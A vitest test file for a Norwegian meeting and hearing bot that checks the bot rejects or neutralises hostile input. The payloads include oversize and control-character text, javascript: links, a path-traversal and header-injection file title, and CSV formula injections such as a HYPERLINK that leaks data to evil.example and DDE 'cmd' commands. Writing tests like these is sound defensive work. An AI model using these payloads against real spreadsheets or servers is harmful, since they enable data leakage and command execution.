import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { people } from '../fixtures/activities';
import { Harness, runCase, type HostileCase } from './harness';
import { createTargets, drainJobs, type Targets } from './setup';

/*
 * Oversize, control and look-alike text in what people type, and injection strings in text
 * that ends up in a document or a file name, and formulas in answers that end up in the
 * hearing's CSV, which the coordinator opens in Excel (OWASP's CSV injection).
 */

let h: Harness;
let x: Targets;
beforeAll(async () => {
  h = await Harness.start();
  x = await createTargets(h);
}, 60_000);
afterAll(() => h.stop());

const channel = { kind: 'channel' as const };
const huge = (n: number) => 'Langt innspill om legevakt. '.repeat(Math.ceil(n / 28)).slice(0, n);
const meetingVersion = async (hh: Harness) =>
  (await hh.bot.samrad.store.get<{ version: number }>('meetings', x.meetingId))!.value.version;

const typed: HostileCase[] = [
  {
    name: 'a 100,000-character chat message',
    send: (hh) => hh.say(people.coordinator, huge(100_000)),
    expect: /Jeg forstår ikke/,
  },
  {
    name: 'a message of nothing but zero-width characters',
    send: (hh) => hh.say(people.coordinator, '\u200B\u200C\u200D\uFEFF\u2060'),
    expect: /hjelp|Jeg forstår ikke/,
  },
  {
    name: 'a command wrapped in a right-to-left override',
    send: (hh) => hh.say(people.respondent, '\u202Ehjelp\u202C'),
    expect: /hjelp|Jeg forstår ikke/,
  },
  {
    name: 'a command with a NUL and escape codes in it',
    send: (hh) => hh.say(people.respondent, 'hj\u0000elp \u001B[2J'),
    expect: /hjelp|Jeg forstår ikke/,
  },
  {
    name: 'a command in Markdown bold',
    send: (hh) => hh.say(people.respondent, '**nytt møte** [x](https://evil.example)'),
    expect: /hører ikke til rollen din|Jeg forstår ikke/,
  },
  {
    name: 'a 10,000-character vote title',
    send: (hh) => hh.press(people.coordinator, 'vote.open', { title: huge(10_000), body: 'styret' }, channel),
    expect: /Tittelen kan ha høyst \d+ tegn/,
  },
  {
    name: 'a 10,000-character alternative',
    send: (hh) =>
      hh.press(
        people.coordinator,
        'vote.open',
        { title: 'Valg', body: 'styret', alternatives: `${huge(10_000)}\nB` },
        channel,
      ),
    expect: /Et alternativ kan ha høyst \d+ tegn/,
  },
  {
    name: 'a 10,000-character case title',
    send: (hh) =>
      hh.press(people.coordinator, 'agenda.add', { meetingId: x.meetingId, title: huge(10_000), proposal: 'X' }),
    expect: /Tittelen kan ha høyst \d+ tegn/,
  },
  {
    name: 'a 10,000-character hearing title',
    send: (hh) =>
      hh.press(
        people.coordinator,
        'hearing.register',
        { title: huge(10_000), externalDeadline: '2026-12-20 12:00', questions: 'Q' },
        channel,
      ),
    expect: /Tittelen kan ha høyst \d+ tegn/,
  },
  {
    name: 'a 50,000-character input text',
    send: async (hh) =>
      hh.press(people.respondent, 'input.submit', {
        meetingId: x.meetingId,
        version: await meetingVersion(hh),
        municipality: '3324',
        'position-0': 'against',
        'text-0': huge(50_000),
      }),
    expect: /Innspillet kan ha høyst \d+ tegn/,
  },
  {
    name: 'a 50,000-character hearing response',
    send: (hh) =>
      hh.press(people.respondent, 'hearing.submit', {
        hearingId: x.hearingId,
        version: 1,
        municipality: '3324',
        position: 'agree',
        text: huge(50_000),
      }),
    expect: /Teksten er for lang/,
  },
  {
    name: 'a javascript: link as a hearing document',
    send: (hh) =>
      hh.press(
        people.coordinator,
        'hearing.register',
        {
          title: 'Lenke',
          issuer: 'HOD',
          externalDeadline: '2026-12-20 12:00',
          questions: 'Q',
          documents: 'javascript:alert(1)',
        },
        channel,
      ),
    expect: /er ikke en lenke/,
  },
  {
    name: 'a plain-http link as a hearing document',
    send: (hh) =>
      hh.press(
        people.coordinator,
        'hearing.register',
        {
          title: 'Lenke',
          issuer: 'HOD',
          externalDeadline: '2026-12-20 12:00',
          questions: 'Q',
          documents: 'http://evil.example/doc.pdf',
        },
        channel,
      ),
    expect: /er ikke en lenke/,
  },
  {
    name: 'a data: link as a case document',
    send: (hh) =>
      hh.press(people.coordinator, 'agenda.add', {
        meetingId: x.meetingId,
        title: 'Sak',
        proposal: 'X',
        documents: 'Se data:text/html,<script>alert(1)</script>',
      }),
    expect: /https-adresser|Saken er lagt til|lagt til/,
  },
];

/** Issue 17, finding 11: long answers on ten cases made the input summary too big for Teams. */
const tenLongAnswers: HostileCase = {
  name: 'ten cases with two long answers each: the input summary fits, says so, and offers the document',
  send: async (hh) => {
    const created = await hh.press(people.coordinator, 'meeting.create', {
      body: 'styret',
      title: 'Langt møte',
      date: '2026-12-18',
      startTime: '10:00',
      endTime: '12:00',
      online: 'true',
    });
    const id = /Møte \d+\/2026 · ([A-Z0-9]{5})/.exec(created.text)?.[1] ?? 'NONE';
    for (let k = 1; k <= 10; k++)
      await hh.press(people.coordinator, 'agenda.add', {
        meetingId: id,
        title: `Sak om tema ${k}`,
        proposal: 'Vedtas.',
      });
    await hh.say(people.coordinator, `be om innspill ${id} frist 2026-12-16 12:00`);
    const version = (await hh.bot.samrad.store.get<{ version: number }>('meetings', id))!.value.version;
    // A tie on every case: both answers diverge, 2 × 10 × 2,000 characters.
    const answer = (position: string) =>
      Object.fromEntries(
        Array.from({ length: 10 }, (_, k) => [
          [`position-${k}`, position],
          [`text-${k}`, huge(2000)],
        ]).flat(),
      );
    await hh.press(people.boardMember, 'input.submit', {
      meetingId: id,
      version,
      municipality: '3305',
      ...answer('support'),
    });
    await hh.press(people.respondent, 'input.submit', {
      meetingId: id,
      version,
      municipality: '3324',
      ...answer('against'),
    });
    return hh.say(people.coordinator, `innspill ${id}`);
  },
  expect: /Kortet ble for stort for Teams/,
  changes: true,
  then: (_hh, answer) => {
    expect(answer.text).toContain('grunnlag.docx');
    expect(answer.text).toContain('Sak om tema 10');
  },
};

/** A title that tries to climb out of the folder or break the download header. */
const hostileTitle =
  "../../..\\etc/passwd\"; filename*=UTF-8''evil.exe\r\nX-Injected: 1 {{DATE(2026-01-15T09:30:00Z)}} \u202Efdp.exe";
const files: HostileCase[] = [
  {
    name: 'a hearing title that tries to escape the download’s file name',
    send: async (hh) => {
      const registered = await hh.press(
        people.coordinator,
        'hearing.register',
        { title: hostileTitle, issuer: 'HOD', externalDeadline: '2026-12-20 12:00', questions: 'Q', background: '' },
        channel,
      );
      const id = /Høring ([A-Z0-9]{5}) er registrert/.exec(registered.text)?.[1] ?? 'NONE';
      await drainJobs(hh);
      return hh.say(people.coordinator, `sammenstill høring ${id}`);
    },
    expect: /\.docx/,
    changes: true,
    then: async (_hh, answer) => {
      const urls = [...answer.text.matchAll(/"url":"([^"]+\.(?:docx|csv)[^"]*)"/g)].map(
        (m) => JSON.parse(`"${m[1]}"`) as string,
      );
      expect(urls.length).toBeGreaterThan(0);
      for (const url of urls) {
        const res = await fetch(url);
        expect(res.status).toBe(200);
        const disposition = res.headers.get('content-disposition') ?? '';
        expect(disposition).not.toMatch(/\.\.|[\\/\r\n\u202E]|X-Injected|evil\.exe/);
        expect(res.headers.get('x-injected')).toBeNull();
        await res.arrayBuffer();
      }
    },
  },
];

/** What a spreadsheet would run as a formula, each as a respondent's answer (OWASP's list and more). */
const formulas: Record<string, string> = {
  'a HYPERLINK that leaks the sheet': '=HYPERLINK("https://evil.example/?"&A1,"Klikk")',
  'a DDE command': "+cmd|' /C calc'!A0",
  'an @ function': '@SUM(1+1)',
  'a minus formula': "-2+3+cmd|' /C calc'!A0",
  'a tab before a formula': '\t=1+1',
  'a carriage return before a formula': '\r=1+1',
  'a full-width equals sign': '\uFF1DHYPERLINK("https://evil.example")',
  'spaces before a formula': '   =1+1',
};
/** A cell a spreadsheet would evaluate: one that starts, after the quote, with = + - @, a tab or a CR. */
const liveCell = /(?:^|[;,\n])"?\s*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const csvCases: HostileCase[] = Object.entries(formulas).map(([name, formula]): HostileCase => ({
  name: `${name} in a hearing response reaches the CSV as text`,
  send: async (hh) => {
    await hh.press(people.respondent, 'hearing.submit', {
      hearingId: x.hearingId,
      version: 1,
      municipality: '3324',
      position: 'agree',
      text: formula,
    });
    return hh.say(people.coordinator, `sammenstill høring ${x.hearingId}`);
  },
  expect: /\.csv/,
  changes: true,
  then: async (_hh, answer) => {
    const url = [...answer.text.matchAll(/"url":"([^"]+\.csv[^"]*)"/g)].map(
      (m) => JSON.parse(`"${m[1]}"`) as string,
    )[0];
    expect(url, 'a CSV link').toBeDefined();
    const csv = await (await fetch(url!)).text();
    expect(csv, 'the answer is in the file').toContain(
      formula
        .trim()
        .replace(/^[\t\r]/, '')
        .slice(1, 8),
    );
    for (const line of csv.split(/\r?\n/)) expect(line, 'no cell a spreadsheet would run').not.toMatch(liveCell);
  },
}));

describe('hostile: oversize and control text, and injection into documents and file names', () => {
  for (const [title, cases] of [
    ['what people type', typed],
    ['documents and file names', files],
    ['formulas in the CSV', csvCases],
    ['cards that grow', [tenLongAnswers]],
  ] as const) {
    describe(title, () => {
      for (const c of cases) it(c.name, () => runCase(h, c));
    });
  }
});
